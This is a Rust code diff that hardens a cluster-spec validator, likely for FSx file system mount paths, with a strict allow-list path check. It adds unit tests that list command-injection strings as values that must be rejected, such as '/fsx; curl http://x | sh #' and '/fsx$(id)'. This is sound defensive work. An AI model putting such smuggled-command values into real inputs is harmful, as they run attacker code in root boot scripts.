@@ -97,15 +97,17 @@ fn check_fsx(spec: &Spec, f: &crate::model::Fsx, out: &mut Vec<Finding>) {
             );
         }
     }
-    if !f.mount_path.starts_with('/') || f.mount_path == "/" {
-        out.push(Finding::error(
-            "bad-value",
-            at.at("mount_path"),
-            format!(
-                "mount path {:?} must be an absolute directory other than /",
-                f.mount_path
-            ),
-        ));
+    if let Err(why) = plain_absolute_path(&f.mount_path) {
+        // The mount path reaches the instances' boot script (run as root): only a plain path
+        // passes, whatever quoting the script also does.
+        out.push(
+            Finding::error(
+                "bad-value",
+                at.at("mount_path"),
+                format!("mount path {:?} {why}", f.mount_path),
+            )
+            .with_hint("write a plain absolute directory such as \"/fsx\": letters, digits, '.', '_', '-' and '/'"),
+        );
     }
     check_lustre_version(f, out);
     check_data_repositories(spec, f, &at, out);
@@ -147,15 +149,15 @@ fn check_data_repositories(
                 )),
             );
         }
-        if !repo.file_system_path.starts_with('/') || repo.file_system_path == "/" {
-            out.push(Finding::error(
-                "bad-value",
-                at.at("file_system_path"),
-                format!(
-                    "{:?} must be an absolute directory other than /",
-                    repo.file_system_path
-                ),
-            ));
+        if let Err(why) = plain_absolute_path(&repo.file_system_path) {
+            out.push(
+                Finding::error(
+                    "bad-value",
+                    at.at("file_system_path"),
+                    format!("{:?} {why}", repo.file_system_path),
+                )
+                .with_hint("write a plain absolute directory such as \"/data\""),
+            );
         }
         if !paths.insert(&repo.file_system_path) {
             out.push(Finding::error(
@@ -180,6 +182,38 @@ fn check_data_repositories(
             );
         }
     }
+}
+
+/// Whether `p` is a plain absolute directory other than `/`: ASCII letters, digits, `.`, `_`,
+/// `-` and `/`, no empty, `.` or `..` component, at most 255 characters. Anything else (a
+/// space, a quote, `$`, `;`, a newline) could change the meaning of the script it reaches.
+pub(crate) fn plain_absolute_path(p: &str) -> Result<(), &'static str> {
+    if !p.starts_with('/') {
+        return Err("must be an absolute path");
+    }
+    if p.len() > 255 {
+        return Err("is longer than 255 characters");
+    }
+    if !p
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'))
+    {
+        return Err("may hold only letters, digits, '.', '_', '-' and '/'");
+    }
+    let parts: Vec<&str> = p[1..].trim_end_matches('/').split('/').collect();
+    if parts == [""] {
+        return Err("must be a directory other than /");
+    }
+    if parts
+        .iter()
+        .any(|c| c.is_empty() || *c == "." || *c == "..")
+    {
+        return Err("may not have empty, '.' or '..' components");
+    }
+    if parts.iter().any(|c| c.starts_with('-')) {
+        return Err("may not have a component starting with '-'");
+    }
+    Ok(())
 }
 
 fn list(v: &[u32]) -> String {
@@ -221,5 +255,36 @@ fn check_lustre_version(f: &crate::model::Fsx, out: &mut Vec<Finding>) {
             Finding::error("dra-unsupported", at.at("lustre_version"), "data repository associations need Lustre 2.12 or later; this file system would be 2.10")
                 .with_hint("use lustre_version = \"2.15\" (or leave it out: 2.15 is the default)"),
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::plain_absolute_path;
+
+    #[test]
+    fn only_plain_absolute_directories_pass() {
+        for ok in ["/fsx", "/fsx/", "/mnt/data-1/v2.0", "/a_b"] {
+            assert_eq!(plain_absolute_path(ok), Ok(()), "{ok}");
+        }
+        for hostile in [
+            "/fsx; curl http://x | sh #",
+            "/fsx\nreboot",
+            "/fsx$(id)",
+            "/fsx`id`",
+            "/fsx'",
+            "/fsx\"",
+            "/fsx/../etc",
+            "/fsx/./x",
+            "//fsx",
+            "/fsx dir",
+            "/-rf",
+            "fsx",
+            "/",
+            "",
+        ] {
+            assert!(plain_absolute_path(hostile).is_err(), "{hostile:?} passed");
+        }
+        assert!(plain_absolute_path(&format!("/{}", "a".repeat(255))).is_err());
     }
 }
